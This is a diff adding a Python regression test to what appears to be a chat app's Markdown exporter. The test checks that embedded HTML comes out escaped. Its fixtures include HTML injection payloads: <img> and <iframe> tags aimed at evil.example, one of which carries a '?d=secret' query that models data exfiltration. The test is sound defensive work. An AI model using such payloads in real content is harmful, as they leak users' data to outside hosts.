@@ -469,6 +469,21 @@ def test_markdown_export_shows_images_of_every_role_as_links():
     assert "![" not in md and md.count("[🖼️ ") == 6
 
 
+
+def test_the_markdown_export_loads_nothing_in_a_viewer_that_renders_html():
+    # The second review: an editor's preview rendered a reply's <img> tag from the export, and `!![` an image.
+    from markdown_it import MarkdownIt
+
+    c = Conversation(system_prompt="<img src='https://evil.example/s.png'>", title="<b>title</b>")
+    c.add_user("x <img src=\"https://evil.example/p.png?d=secret\"> and !![y](https://evil.example/q.png)")
+    reply = c.start_reply("qwen-plus")
+    reply.status, reply.reasoning = COMPLETE, "<iframe src='https://evil.example/r'></iframe>"
+    reply.content = "Use `List<String>` here:\n\n```java\nList<String> names = new ArrayList<>();\n```"
+    md = to_markdown(c)
+    html = MarkdownIt("commonmark").render(md)
+    assert "<img" not in html and "<iframe" not in html and "<b>" not in html
+    assert "`List<String>`" in md and "List<String> names = new ArrayList<>();" in md  # code as written
+
 # ---- files crafted to hurt: deep nesting, a long system prompt ----
 
 def nested(depth: int) -> str:
